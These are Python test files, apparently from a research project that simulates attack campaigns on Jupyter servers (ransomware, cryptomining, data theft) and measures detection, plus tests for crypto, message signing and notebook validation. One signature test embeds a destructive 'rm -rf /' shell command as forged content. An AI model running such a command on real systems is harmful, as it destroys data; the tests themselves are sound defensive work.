    def test_small_fleet_runs_and_is_detected(self):
        campaigns = CampaignGenerator(seed=7, with_recon=False).generate_fleet(
            3, objective="mine")
        runner = CampaignRunner(base_seed=6000)
        outcomes = runner.run(campaigns)
        assert len(outcomes) == 3
        assert runner.success_rate() == 1.0
        # Miners hit at least the behaviour-plane detectors every time.
        assert runner.detection_rate() == 1.0

    def test_by_objective_breakdown(self):
        campaigns = (CampaignGenerator(seed=8, with_recon=False).generate_fleet(2, objective="mine")
                     + CampaignGenerator(seed=9, with_recon=False).generate_fleet(2, objective="steal"))
        runner = CampaignRunner(base_seed=6100)
        runner.run(campaigns)
        breakdown = runner.by_objective()
        assert breakdown["mine"]["campaigns"] == 2
        assert breakdown["steal"]["campaigns"] == 2
        assert 0.0 <= breakdown["steal"]["detected"] <= 1.0

    def test_outcome_records_notices(self):
        campaigns = CampaignGenerator(seed=10, with_recon=False).generate_fleet(
            1, objective="extort")
        outcomes = CampaignRunner(base_seed=6200).run(campaigns)
        assert outcomes[0].succeeded
        assert any("RANSOMWARE" in n or "POLICY" in n for n in outcomes[0].notices_triggered)

    def test_runs_against_a_hub_spec(self):
        from repro.topology import spec_preset

        spec = spec_preset("hub", n_tenants=2)
        campaigns = CampaignGenerator(seed=11, with_recon=False).generate_fleet(
            1, objective="steal")
        runner = CampaignRunner(base_seed=6300, spec=spec)
        outcomes = runner.run(campaigns)
        assert len(outcomes) == 1 and outcomes[0].succeeded

    def test_spec_accepts_preset_name(self):
        campaigns = CampaignGenerator(seed=12, with_recon=False).generate_fleet(
            1, objective="mine")
        runner = CampaignRunner(base_seed=6400, spec="single-server")
        assert runner.run(campaigns)[0].succeeded

    def test_spec_monitor_budget_survives_the_runner(self):
        from repro.topology import spec_preset

        spec = spec_preset("single-server", monitor_budget=50.0)
        world = CampaignRunner(spec=spec)._build_world(0)
        assert world.monitor.budget == 50.0
        overridden = CampaignRunner(spec=spec, monitor_budget=10.0)._build_world(0)
        assert overridden.monitor.budget == 10.0


class _BoomAttack(Attack):
    name = "boom"

    def execute(self, scenario):
        raise RuntimeError("stage blew up")


class TestFailureForensics:
    def test_aborted_campaign_records_stage_and_error(self):
        campaign = Campaign(1, [_BoomAttack()], "steal")
        runner = CampaignRunner(base_seed=6500)
        outcome = runner.run([campaign])[0]
        assert outcome.aborted
        assert outcome.failed_stage == "boom"
        assert outcome.failure == "RuntimeError: stage blew up"
        assert runner.aborted() == [outcome]

    def test_later_stages_skipped_after_failure(self):
        ran = []

        class Tracker(Attack):
            name = "tracker"

            def execute(self, scenario):
                ran.append(1)
                return self._result(success=True)

        campaign = Campaign(1, [_BoomAttack(), Tracker()], "steal")
        outcome = CampaignRunner(base_seed=6600).run([campaign])[0]
        assert outcome.aborted and not ran

    def test_short_campaign_is_not_aborted(self):
        campaigns = CampaignGenerator(seed=13, with_recon=False).generate_fleet(
            1, objective="mine")
        outcome = CampaignRunner(base_seed=6700).run(campaigns)[0]
        assert not outcome.aborted
        assert outcome.failed_stage is None and outcome.failure == ""


def _fake_outcome(objective="mine", *, detected=False, succeeded=False,
                  aborted=False):
    class _R:
        success = succeeded

    return CampaignOutcome(
        Campaign(1, [], objective),
        results=[_R()] if succeeded else [],
        notices_triggered=["X"] if detected else [],
        failed_stage="boom" if aborted else None,
    )


class TestAggregates:
    def test_empty_runner_rates_are_zero(self):
        runner = CampaignRunner()
        assert runner.detection_rate() == 0.0
        assert runner.success_rate() == 0.0
        assert runner.by_objective() == {}
        assert runner.aborted() == []

    def test_outcome_rates_empty_subset(self):
        assert outcome_rates([]) == {"campaigns": 0, "detected": 0.0,
                                     "succeeded": 0.0, "aborted": 0.0}

    def test_outcome_rates_math(self):
        outcomes = [
            _fake_outcome(detected=True, succeeded=True),
            _fake_outcome(detected=True),
            _fake_outcome(aborted=True),
            _fake_outcome(),
        ]
        rates = outcome_rates(outcomes)
        assert rates == {"campaigns": 4, "detected": 0.5,
                         "succeeded": 0.25, "aborted": 0.25}

    def test_by_objective_omits_empty_subsets(self):
        runner = CampaignRunner()
        runner.outcomes = [_fake_outcome("mine", detected=True)]
        breakdown = runner.by_objective()
        assert set(breakdown) == {"mine"}
        assert breakdown["mine"]["campaigns"] == 1
        assert breakdown["mine"]["detected"] == 1.0


class TestMatrixReport:
    def make_report(self):
        cells = []
        for topology in ("single-server", "hub"):
            for objective in ("mine", "steal"):
                detected = topology == "hub"
                outcomes = [_fake_outcome(objective, detected=detected,
                                          succeeded=True) for _ in range(2)]
                cells.append(MatrixCell(topology, objective,
                                        outcome_rates(outcomes), outcomes))
        return MatrixReport(cells)

    def test_cell_lookup_and_missing_cell(self):
        report = self.make_report()
        cell = report.cell("hub", "mine")
        assert cell is not None and cell.rates["detected"] == 1.0
        assert report.cell("hub", "extort") is None

    def test_by_topology_merges_objectives(self):
        report = self.make_report()
        by_topology = report.by_topology()
        hub = by_topology["hub"]
        assert hub["campaigns"] == 4 and hub["detected"] == 1.0
        assert hub["succeeded"] == 1.0 and hub["aborted"] == 0.0
        # The containment extension rides along (passive worlds: nothing
        # contained, post-detection success mirrors plain success).
        assert hub["contained"] == 0.0
        assert hub["median_containment_leadtime"] is None
        assert by_topology["single-server"]["detected"] == 0.0

    def test_to_dict_and_render(self):
        report = self.make_report()
        d = report.to_dict()
        assert d["hub"]["steal"]["succeeded"] == 1.0
        text = report.render()
        assert "topology" in text and "hub" in text and "steal" in text

    def test_small_real_matrix_run(self):
        report = TopologyMatrixRunner(
            {"single-server": "single-server"}, objectives=["mine"],
            campaigns_per_cell=1, base_seed=7000).run()
        assert len(report.cells) == 1
        cell = report.cells[0]
        assert cell.rates["campaigns"] == 1
        assert cell.rates["succeeded"] == 1.0
