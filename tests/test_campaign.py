"""Tests for automated campaign generation (§IV.B AI-driven attacks)."""

import pytest

from repro.attacks.campaign import (
    OBJECTIVES,
    Campaign,
    CampaignGenerator,
    CampaignRunner,
)


class TestGenerator:
    def test_generates_requested_objective(self):
        gen = CampaignGenerator(seed=1)
        campaign = gen.generate("extort")
        assert campaign.objective == "extort"
        assert "ransomware" in campaign.stage_names()

    def test_all_objectives_reachable(self):
        gen = CampaignGenerator(seed=2)
        objectives = {gen.generate().objective for _ in range(30)}
        assert objectives == set(OBJECTIVES)

    def test_deterministic_given_seed(self):
        a = CampaignGenerator(seed=3).generate_fleet(5)
        b = CampaignGenerator(seed=3).generate_fleet(5)
        assert [c.stage_names() for c in a] == [c.stage_names() for c in b]
        assert [c.objective for c in a] == [c.objective for c in b]

    def test_parameter_variation_between_campaigns(self):
        """No two generated ransomware payloads share a key — the
        'variety defeats exact signatures' property."""
        gen = CampaignGenerator(seed=4)
        keys = []
        for _ in range(10):
            c = gen.generate("extort")
            ransomware = next(s for s in c.stages if s.name == "ransomware")
            keys.append(ransomware.key)
        assert len(set(keys)) == len(keys)

    def test_access_stage_always_present(self):
        gen = CampaignGenerator(seed=5)
        for _ in range(10):
            c = gen.generate()
            assert "stolen-token" in c.stage_names()

    def test_ids_increment(self):
        gen = CampaignGenerator(seed=6)
        fleet = gen.generate_fleet(3)
        assert [c.campaign_id for c in fleet] == [1, 2, 3]


class TestRunner:
    def test_small_fleet_runs_and_is_detected(self):
        campaigns = CampaignGenerator(seed=7, with_recon=False).generate_fleet(
            3, objective="mine")
        runner = CampaignRunner(base_seed=6000)
        outcomes = runner.run(campaigns)
        assert len(outcomes) == 3
        assert runner.success_rate() == 1.0
        # Miners hit at least the behaviour-plane detectors every time.
        assert runner.detection_rate() == 1.0

    def test_by_objective_breakdown(self):
        campaigns = (CampaignGenerator(seed=8, with_recon=False).generate_fleet(2, objective="mine")
                     + CampaignGenerator(seed=9, with_recon=False).generate_fleet(2, objective="steal"))
        runner = CampaignRunner(base_seed=6100)
        runner.run(campaigns)
        breakdown = runner.by_objective()
        assert breakdown["mine"]["campaigns"] == 2
        assert breakdown["steal"]["campaigns"] == 2
        assert 0.0 <= breakdown["steal"]["detected"] <= 1.0

    def test_outcome_records_notices(self):
        campaigns = CampaignGenerator(seed=10, with_recon=False).generate_fleet(
            1, objective="extort")
        outcomes = CampaignRunner(base_seed=6200).run(campaigns)
        assert outcomes[0].succeeded
        assert any("RANSOMWARE" in n or "POLICY" in n for n in outcomes[0].notices_triggered)
