"""Additional integration coverage: checkpoint REST routes, workload
template hygiene, ZMTP integrity notices, and interpreter differentials."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.kernel import KernelWorld, MiniPython
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network
from repro.workload.scientist import BENIGN_CELL_TEMPLATES


def make_world(**cfg_kw):
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    cfg = ServerConfig(ip="0.0.0.0", token="tok", **cfg_kw)
    server = JupyterServer(cfg, net, server_host)
    ServerGateway(server)
    client = WebSocketKernelClient(client_host, server_host, token="tok")
    return net, server, client


class TestCheckpointRest:
    def test_create_list_restore_cycle(self):
        _, server, client = make_world()
        client.json("PUT", "/api/contents/nb.txt", {"type": "file", "content": "v1"})
        created = client.json("POST", "/api/contents/nb.txt/checkpoints")
        assert created["id"] == "0"
        listing = client.json("GET", "/api/contents/nb.txt/checkpoints")
        assert [c["id"] for c in listing] == ["0"]
        client.json("PUT", "/api/contents/nb.txt", {"type": "file", "content": "RANSOMED"})
        resp = client.request("POST", "/api/contents/nb.txt/checkpoints/0")
        assert resp.status == 204
        assert client.json("GET", "/api/contents/nb.txt")["content"] == "v1"

    def test_multiple_checkpoints_get_sequential_ids(self):
        _, server, client = make_world()
        client.json("PUT", "/api/contents/f.txt", {"type": "file", "content": "a"})
        assert client.json("POST", "/api/contents/f.txt/checkpoints")["id"] == "0"
        assert client.json("POST", "/api/contents/f.txt/checkpoints")["id"] == "1"

    def test_delete_checkpoint(self):
        _, server, client = make_world()
        client.json("PUT", "/api/contents/f.txt", {"type": "file", "content": "a"})
        client.json("POST", "/api/contents/f.txt/checkpoints")
        resp = client.request("DELETE", "/api/contents/f.txt/checkpoints/0")
        assert resp.status == 204
        assert client.json("GET", "/api/contents/f.txt/checkpoints") == []

    def test_restore_missing_checkpoint_404(self):
        _, server, client = make_world()
        client.json("PUT", "/api/contents/f.txt", {"type": "file", "content": "a"})
        assert client.request("POST", "/api/contents/f.txt/checkpoints/9").status == 404

    def test_checkpoint_on_missing_file_404(self):
        _, server, client = make_world()
        assert client.request("POST", "/api/contents/ghost.txt/checkpoints").status == 404


class TestWorkloadTemplates:
    @pytest.mark.parametrize("template", BENIGN_CELL_TEMPLATES)
    def test_every_template_executes_clean(self, template):
        """Benign-cell hygiene: a template that errors would pollute the
        false-positive baseline of every experiment."""
        world = KernelWorld()
        world.fs.write("home/data/measurements_0.csv", b"a,b,c\n1,2,3\n4,5,6\n")
        interp = MiniPython(world)
        outcome = interp.execute(template.format(i=42))
        assert outcome.status == "ok", f"{outcome.ename}: {outcome.evalue}\n{template}"

    @pytest.mark.parametrize("template", BENIGN_CELL_TEMPLATES)
    def test_templates_trip_no_policies(self, template):
        from repro.audit import PolicyEngine, extract_features

        engine = PolicyEngine()
        verdicts = engine.evaluate(extract_features(template.format(i=42)))
        assert verdicts == [], f"benign template trips {verdicts[0].policy}"


class TestZmtpIntegrityNotices:
    def test_monitor_with_key_flags_forged_zmtp_message(self):
        """A monitor provisioned with the session key detects on-path
        message forgery at the ZMTP layer (BAD_MESSAGE_SIGNATURE)."""
        from repro.messaging import Session
        from repro.monitor import JupyterNetworkMonitor
        from repro.wire.zmtp import encode_greeting, encode_multipart

        net = Network(default_latency=0.001)
        server_host = net.add_host("jupyter", "10.0.0.1")
        tap = net.add_tap()
        key = b"real-session-key"
        monitor = JupyterNetworkMonitor(session_key=key)
        monitor.attach(tap)
        # A fake kernel port that just swallows bytes.
        server_host.listen(55555, lambda conn: None)
        attacker_host = net.add_host("onpath", "10.0.0.99")
        conn = attacker_host.connect(server_host, 55555)
        forged = Session(b"WRONG", check_replay=False)
        conn.send_to_server(encode_greeting() + encode_multipart(
            forged.serialize(forged.execute_request("spoofed"))))
        net.run(1.0)
        assert "BAD_MESSAGE_SIGNATURE" in monitor.logs.notice_names()


class TestInterpreterDifferential:
    """Wider differential coverage against CPython on the safe subset."""

    def run_mini(self, code):
        outcome = MiniPython(KernelWorld()).execute(code)
        assert outcome.status == "ok", f"{outcome.ename}: {outcome.evalue}"
        return outcome.result

    @settings(max_examples=60, deadline=None)
    @given(st.lists(st.text(alphabet="abcx ,", max_size=8), max_size=8))
    def test_string_join_split(self, parts):
        code = f"parts = {parts!r}\n('|'.join(parts), '|'.join(parts).split('|'))"
        assert self.run_mini(code) == ("|".join(parts), "|".join(parts).split("|"))

    @settings(max_examples=60, deadline=None)
    @given(st.dictionaries(st.text(alphabet="abc", min_size=1, max_size=3),
                           st.integers(-100, 100), max_size=6))
    def test_dict_operations(self, d):
        code = (f"d = {d!r}\n"
                "(sorted(d), sorted(d.values()), len(d), "
                "{k: v * 2 for k, v in d.items()})")
        expected = (sorted(d), sorted(d.values()), len(d), {k: v * 2 for k, v in d.items()})
        assert self.run_mini(code) == expected

    @settings(max_examples=40, deadline=None)
    @given(st.lists(st.integers(-50, 50), min_size=1, max_size=15),
           st.integers(-2, 2))
    def test_slicing(self, xs, step):
        if step == 0:
            step = 1
        code = f"xs = {xs!r}\n(xs[1:], xs[:-1], xs[::{step}], xs[-1])"
        assert self.run_mini(code) == (xs[1:], xs[:-1], xs[::step], xs[-1])

    @settings(max_examples=40, deadline=None)
    @given(st.integers(0, 30))
    def test_while_loop_sum(self, n):
        code = (f"n = {n}\ntotal = 0\ni = 0\n"
                "while i < n:\n    total += i\n    i += 1\ntotal")
        assert self.run_mini(code) == sum(range(n))

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 9), st.integers(0, 9)), max_size=10))
    def test_tuple_sort_by_key(self, pairs):
        code = (f"pairs = {pairs!r}\n"
                "sorted(pairs, key=lambda p: (p[1], p[0]))")
        assert self.run_mini(code) == sorted(pairs, key=lambda p: (p[1], p[0]))
