"""ChaCha20 tests, including the RFC 7539 reference vectors."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.crypto.chacha20 import ChaCha20, chacha20_block, chacha20_decrypt, chacha20_encrypt
from repro.util.entropy import shannon_entropy

RFC_KEY = bytes(range(32))
RFC_NONCE = bytes.fromhex("000000090000004a00000000")


class TestRfc7539Vectors:
    def test_block_function_vector(self):
        # RFC 7539 §2.3.2 test vector.
        block = chacha20_block(RFC_KEY, 1, RFC_NONCE)
        expected = bytes.fromhex(
            "10f1e7e4d13b5915500fdd1fa32071c4"
            "c7d1f4c733c068030422aa9ac3d46c4e"
            "d2826446079faa0914c2d705d98b02a2"
            "b5129cd1de164eb9cbd083e8a2503c4e"
        )
        assert block == expected

    def test_encryption_vector(self):
        # RFC 7539 §2.4.2: the "sunscreen" plaintext.
        key = bytes(range(32))
        nonce = bytes.fromhex("000000000000004a00000000")
        plaintext = (
            b"Ladies and Gentlemen of the class of '99: If I could offer you "
            b"only one tip for the future, sunscreen would be it."
        )
        expected = bytes.fromhex(
            "6e2e359a2568f98041ba0728dd0d6981"
            "e97e7aec1d4360c20a27afccfd9fae0b"
            "f91b65c5524733ab8f593dabcd62b357"
            "1639d624e65152ab8f530c359f0861d8"
            "07ca0dbf500d6a6156a38e088a22b65e"
            "52bc514d16ccf806818ce91ab7793736"
            "5af90bbf74a35be6b40b8eedf2785e42"
            "874d"
        )
        assert chacha20_encrypt(key, nonce, plaintext, counter=1) == expected


class TestRoundTrip:
    @given(st.binary(max_size=4096))
    def test_encrypt_decrypt_identity(self, plaintext):
        key = b"\x01" * 32
        nonce = b"\x02" * 12
        ct = chacha20_encrypt(key, nonce, plaintext)
        assert chacha20_decrypt(key, nonce, ct) == plaintext

    @given(st.binary(min_size=1, max_size=1024))
    def test_wrong_key_garbles(self, plaintext):
        ct = chacha20_encrypt(b"\x01" * 32, b"\x00" * 12, plaintext)
        wrong = chacha20_decrypt(b"\x02" * 32, b"\x00" * 12, ct)
        # With overwhelming probability a 1-byte+ message decrypts wrong.
        if len(plaintext) >= 8:
            assert wrong != plaintext

    @given(st.lists(st.binary(min_size=0, max_size=200), min_size=1, max_size=8))
    def test_streaming_equals_oneshot(self, chunks):
        key, nonce = b"\x07" * 32, b"\x09" * 12
        stream = ChaCha20(key, nonce)
        streamed = b"".join(stream.update(c) for c in chunks)
        assert streamed == chacha20_encrypt(key, nonce, b"".join(chunks))


class TestValidation:
    def test_bad_key_length(self):
        with pytest.raises(ValueError):
            ChaCha20(b"short", b"\x00" * 12)

    def test_bad_nonce_length(self):
        with pytest.raises(ValueError):
            ChaCha20(b"\x00" * 32, b"\x00" * 5)


class TestEntropySignal:
    def test_ciphertext_entropy_high(self):
        """The property the ransomware detector relies on."""
        plaintext = (b"import numpy as np\n" * 400)
        ct = chacha20_encrypt(b"\x05" * 32, b"\x06" * 12, plaintext)
        assert shannon_entropy(plaintext) < 5.0
        assert shannon_entropy(ct) > 7.5
