"""Tests for the Jupyter kernel wire protocol implementation."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.crypto.signing import NullSigner
from repro.messaging import Channel, Message, Session, DELIMITER, MSG_TYPE_CHANNELS
from repro.messaging.message import MsgHeader, make_header
from repro.util.errors import ProtocolError


class TestHeaders:
    def test_make_header_fields(self):
        h = make_header("execute_request", "sess1", username="alice")
        assert h.msg_type == "execute_request"
        assert h.session == "sess1"
        assert h.username == "alice"
        assert len(h.msg_id) == 32

    def test_header_roundtrip(self):
        h = make_header("status", "s")
        assert MsgHeader.from_dict(h.to_dict()) == h


class TestChannels:
    def test_execute_on_shell(self):
        assert MSG_TYPE_CHANNELS["execute_request"] == Channel.SHELL

    def test_status_on_iopub(self):
        assert MSG_TYPE_CHANNELS["status"] == Channel.IOPUB

    def test_shutdown_on_control(self):
        assert MSG_TYPE_CHANNELS["shutdown_request"] == Channel.CONTROL

    def test_expected_channel(self):
        s = Session(b"k")
        assert s.execute_request("1").expected_channel() == Channel.SHELL


class TestSerialization:
    def test_serialize_layout(self):
        s = Session(b"key")
        msg = s.execute_request("print(1)")
        parts = s.serialize(msg, identities=[b"routing-id"])
        assert parts[0] == b"routing-id"
        assert parts[1] == DELIMITER
        # signature + 4 JSON segments
        assert len(parts) == 2 + 1 + 4

    def test_roundtrip(self):
        s = Session(b"key")
        msg = s.execute_request("x = 41 + 1")
        got = Session(b"key").unserialize(s.serialize(msg))
        assert got.msg_type == "execute_request"
        assert got.content["code"] == "x = 41 + 1"
        assert got.header.session == s.session_id

    def test_buffers_roundtrip(self):
        s = Session(b"key")
        msg = s.msg("display_data", {"data": {}}, buffers=[b"\x00\x01", b"\xff"])
        got = Session(b"key").unserialize(s.serialize(msg))
        assert got.buffers == [b"\x00\x01", b"\xff"]

    def test_parent_header_roundtrip(self):
        s = Session(b"key")
        req = s.execute_request("1")
        reply = s.msg("execute_reply", {"status": "ok"}, parent=req)
        got = Session(b"key").unserialize(s.serialize(reply))
        assert got.parent_header.msg_id == req.msg_id

    def test_bad_signature_rejected(self):
        s = Session(b"key")
        parts = s.serialize(s.execute_request("1"))
        parts[1] = b"0" * 64  # forge signature (layout: DELIM, sig, 4 segments)
        with pytest.raises(ProtocolError, match="signature"):
            Session(b"key").unserialize(parts)

    def test_wrong_key_rejected(self):
        s = Session(b"key")
        parts = s.serialize(s.execute_request("1"))
        with pytest.raises(ProtocolError, match="signature"):
            Session(b"other-key").unserialize(parts)

    def test_tampered_content_rejected(self):
        s = Session(b"key")
        parts = s.serialize(s.execute_request("benign()"))
        evil = json.loads(parts[5])  # content is the last of the 4 JSON segments
        evil["code"] = "__import__('os').system('rm -rf /')"
        parts[5] = json.dumps(evil, sort_keys=True, separators=(",", ":")).encode()
        with pytest.raises(ProtocolError, match="signature"):
            Session(b"key").unserialize(parts)

    def test_missing_delimiter(self):
        with pytest.raises(ProtocolError, match="delimiter"):
            Session(b"k").unserialize([b"a", b"b", b"c", b"d", b"e", b"f"])

    def test_truncated_message(self):
        with pytest.raises(ProtocolError, match="truncated"):
            Session(b"k").unserialize([DELIMITER, b"sig", b"{}"])

    def test_malformed_json_rejected(self):
        s = Session(b"key", check_replay=False)
        # Sign garbage segments with the real key so only JSON parsing fails.
        segs = [b"not-json", b"{}", b"{}", b"{}"]
        sig = s.signer.sign(segs)
        with pytest.raises(ProtocolError, match="JSON"):
            s.unserialize([DELIMITER, sig, *segs])

    def test_replay_detected(self):
        sender = Session(b"key")
        receiver = Session(b"key")
        parts = sender.serialize(sender.execute_request("1"))
        receiver.unserialize(parts)
        with pytest.raises(ProtocolError, match="replayed"):
            receiver.unserialize(parts)

    def test_replay_allowed_when_disabled(self):
        sender = Session(b"key")
        receiver = Session(b"key", check_replay=False)
        parts = sender.serialize(sender.execute_request("1"))
        receiver.unserialize(parts)
        receiver.unserialize(parts)  # no raise

    def test_null_signer_accepts_forgery(self):
        """The empty-key misconfiguration: anything verifies."""
        s = Session(signer=NullSigner())
        parts = s.serialize(s.execute_request("1"))
        parts[1] = b"totally-forged"
        got = Session(signer=NullSigner()).unserialize(parts)
        assert got.msg_type == "execute_request"

    def test_counters(self):
        s = Session(b"key")
        s.serialize(s.execute_request("1"))
        assert s.messages_signed == 1
        r = Session(b"wrong")
        with pytest.raises(ProtocolError):
            r.unserialize(s.serialize(s.execute_request("2")))
        assert r.verification_failures == 1

    @given(
        st.dictionaries(
            st.text(min_size=1, max_size=10), st.text(max_size=30), max_size=5
        )
    )
    def test_property_content_roundtrip(self, content):
        s = Session(b"prop-key")
        msg = s.msg("execute_request", content)
        got = Session(b"prop-key", check_replay=False).unserialize(s.serialize(msg))
        assert got.content == content


class TestWebSocketJson:
    def test_roundtrip(self):
        s = Session(b"k")
        msg = s.execute_request("print('hi')")
        msg.buffers = [b"\x01\x02"]
        got = Message.from_websocket_json(msg.to_websocket_json())
        assert got.content == msg.content
        assert got.channel == Channel.SHELL
        assert got.buffers == [b"\x01\x02"]

    def test_channel_field_present(self):
        s = Session(b"k")
        d = json.loads(s.execute_request("1").to_websocket_json())
        assert d["channel"] == "shell"

    def test_missing_parent_ok(self):
        s = Session(b"k")
        got = Message.from_websocket_json(s.kernel_info_request().to_websocket_json())
        assert got.parent_header is None
