"""Tests for the taxonomy model, technique tree, CVE registry, renderers."""

import pytest

from repro.taxonomy import (
    ATTACK_TREE,
    CVE_REGISTRY,
    JUPYTER_OSCRP,
    Avenue,
    Concern,
    Consequence,
    TechniqueNode,
    cves_for_component,
    find_technique,
    render_oscrp_figure,
    render_table,
    render_tree,
)
from repro.taxonomy.cves import cves_for_version
from repro.taxonomy.oscrp import Asset, OSCRPProfile


class TestOSCRP:
    def test_profile_validates(self):
        assert JUPYTER_OSCRP.validate() == []

    def test_every_avenue_has_concerns_and_assets(self):
        for avenue in Avenue:
            assert JUPYTER_OSCRP.concerns_for(avenue)
            assert JUPYTER_OSCRP.assets_for(avenue)

    def test_consequences_follow_concern_edges(self):
        cons = JUPYTER_OSCRP.consequences_for(Avenue.CRYPTOMINING)
        # crypto-mining -> disruption -> {irreproducible, funding, reputation}
        assert Consequence.FUNDING_LOSS in cons
        assert Consequence.LEGAL_ACTIONS not in cons  # no exposed-data edge

    def test_exfiltration_implies_legal_actions(self):
        cons = JUPYTER_OSCRP.consequences_for(Avenue.DATA_EXFILTRATION)
        assert Consequence.LEGAL_ACTIONS in cons

    def test_table_rows_complete(self):
        rows = JUPYTER_OSCRP.table_rows()
        assert len(rows) == len(Avenue)
        assert all(len(r) == 3 for r in rows)

    def test_incomplete_profile_fails_validation(self):
        broken = OSCRPProfile(avenue_concerns={}, concern_consequences={}, avenue_assets={})
        problems = broken.validate()
        assert len(problems) >= len(Avenue)

    def test_assets_cover_paper_list(self):
        all_assets = set()
        for avenue in Avenue:
            all_assets |= JUPYTER_OSCRP.assets_for(avenue)
        assert Asset.TRAINED_MODELS in all_assets
        assert Asset.HPC_ALLOCATION in all_assets


class TestTechniqueTree:
    def test_walk_covers_all_nodes(self):
        names = [n.name for n in ATTACK_TREE.walk()]
        assert names[0] == "jupyter-attacks"
        assert len(names) == len(set(names)), "duplicate technique names"

    def test_find(self):
        node = find_technique("kernel-cryptominer")
        assert node is not None
        assert node.avenue == Avenue.CRYPTOMINING
        assert find_technique("nonexistent") is None

    def test_leaves_have_metadata(self):
        for leaf in ATTACK_TREE.leaves():
            assert leaf.observable, leaf.name
            assert leaf.implemented_by, leaf.name
            assert leaf.detected_by, leaf.name

    def test_every_avenue_represented_in_tree(self):
        tree_avenues = {n.avenue for n in ATTACK_TREE.walk() if n.avenue}
        assert tree_avenues >= {Avenue.RANSOMWARE, Avenue.CRYPTOMINING,
                                Avenue.DATA_EXFILTRATION, Avenue.ACCOUNT_TAKEOVER,
                                Avenue.MISCONFIGURATION, Avenue.ZERO_DAY}

    def test_add_child(self):
        node = TechniqueNode("parent")
        child = node.add(TechniqueNode("child"))
        assert node.children == [child]
        assert node.find("child") is child


class TestCVERegistry:
    def test_paper_cves_present(self):
        for cve in ("CVE-2024-22415", "CVE-2021-32798", "CVE-2020-16977"):
            assert cve in CVE_REGISTRY

    def test_component_lookup_sorted_by_cvss(self):
        entries = cves_for_component("jupyter-notebook")
        assert entries
        scores = [e.cvss for e in entries]
        assert scores == sorted(scores, reverse=True)

    def test_version_lookup(self):
        assert any(e.cve_id == "CVE-2022-29238" for e in cves_for_version("6.4.11"))
        assert cves_for_version("99.0.0") == []

    def test_entries_have_avenues(self):
        assert all(isinstance(e.avenue, Avenue) for e in CVE_REGISTRY.values())


class TestRenderers:
    def test_tree_render_contains_branches(self):
        text = render_tree(ATTACK_TREE)
        assert "jupyter-attacks" in text
        assert "├──" in text and "└──" in text
        assert "ransomware" in text

    def test_tree_observables_mode(self):
        text = render_tree(ATTACK_TREE, show_observables=True)
        assert "observable:" in text

    def test_oscrp_figure_three_bands(self):
        text = render_oscrp_figure(JUPYTER_OSCRP)
        assert "Avenues of Attack:" in text
        assert "Concerns -> Consequences:" in text
        assert "Assets at risk" in text

    def test_table_alignment(self):
        table = render_table([("a", "bb"), ("ccc", "d")], ["col1", "col2"])
        lines = table.splitlines()
        assert len({len(l) for l in lines}) == 1  # all rows same width

    def test_table_handles_long_cells(self):
        table = render_table([("x" * 50, "y")], ["a", "b"])
        assert "x" * 50 in table
