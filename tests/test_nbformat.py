"""Tests for the notebook document model, validation, and trust store."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.nbformat import (
    CodeCell,
    MarkdownCell,
    Notebook,
    NotebookSignatureStore,
    output_error,
    output_execute_result,
    output_stream,
    validate_notebook,
)
from repro.nbformat.trust import sanitize_untrusted_outputs
from repro.util.errors import ValidationError


def sample_notebook() -> Notebook:
    nb = Notebook.new()
    nb.add_markdown("# Analysis")
    cell = nb.add_code("x = 1\nprint(x)")
    cell.outputs.append(output_stream("stdout", "1\n"))
    cell.outputs.append(output_execute_result({"text/plain": "1"}, 1))
    cell.execution_count = 1
    return nb


class TestModel:
    def test_new_has_kernelspec(self):
        nb = Notebook.new(kernel_name="python3")
        assert nb.metadata["kernelspec"]["name"] == "python3"

    def test_json_roundtrip(self):
        nb = sample_notebook()
        nb2 = Notebook.from_json(nb.to_json())
        assert nb2.to_json() == nb.to_json()

    def test_roundtrip_preserves_cells(self):
        nb2 = Notebook.from_json(sample_notebook().to_json())
        assert len(nb2.cells) == 2
        assert isinstance(nb2.cells[0], MarkdownCell)
        assert isinstance(nb2.cells[1], CodeCell)
        assert nb2.cells[1].execution_count == 1

    def test_source_as_list_of_lines(self):
        doc = sample_notebook().to_dict()
        doc["cells"][1]["source"] = ["x = 1\n", "print(x)"]
        nb = Notebook.from_dict(doc)
        assert nb.code_cells[0].source == "x = 1\nprint(x)"

    def test_clear_outputs(self):
        nb = sample_notebook()
        nb.clear_outputs()
        assert nb.code_cells[0].outputs == []
        assert nb.code_cells[0].execution_count is None

    def test_all_source(self):
        nb = sample_notebook()
        assert "print(x)" in nb.all_source()
        assert "# Analysis" not in nb.all_source()

    def test_unknown_cell_type_rejected(self):
        with pytest.raises(ValueError):
            Notebook.from_dict({"cells": [{"cell_type": "exploit"}]})

    def test_missing_cells_rejected(self):
        with pytest.raises(ValueError):
            Notebook.from_dict({"metadata": {}})

    def test_total_output_bytes_positive(self):
        assert sample_notebook().total_output_bytes() > 0

    @given(st.lists(st.text(max_size=80), max_size=10))
    def test_property_roundtrip_any_sources(self, sources):
        nb = Notebook.new()
        for s in sources:
            nb.add_code(s)
        nb2 = Notebook.from_json(nb.to_json())
        assert [c.source for c in nb2.code_cells] == sources


class TestValidation:
    def test_valid_notebook(self):
        assert validate_notebook(sample_notebook().to_dict()) == []

    def test_not_an_object(self):
        assert validate_notebook([1, 2, 3]) != []

    def test_missing_cells(self):
        assert any("cells" in p for p in validate_notebook({"metadata": {}}))

    def test_bad_cell_type(self):
        doc = {"cells": [{"cell_type": "evil", "source": ""}]}
        assert any("unknown cell_type" in p for p in validate_notebook(doc))

    def test_markdown_with_outputs_invalid(self):
        doc = {"cells": [{"cell_type": "markdown", "source": "", "outputs": []}]}
        assert any("must not have outputs" in p for p in validate_notebook(doc))

    def test_bad_stream_name(self):
        doc = {
            "cells": [
                {
                    "cell_type": "code",
                    "source": "",
                    "outputs": [{"output_type": "stream", "name": "stdweird", "text": ""}],
                }
            ]
        }
        assert any("stdout/stderr" in p for p in validate_notebook(doc))

    def test_error_output_requires_fields(self):
        doc = {
            "cells": [
                {"cell_type": "code", "source": "", "outputs": [{"output_type": "error"}]}
            ]
        }
        problems = validate_notebook(doc)
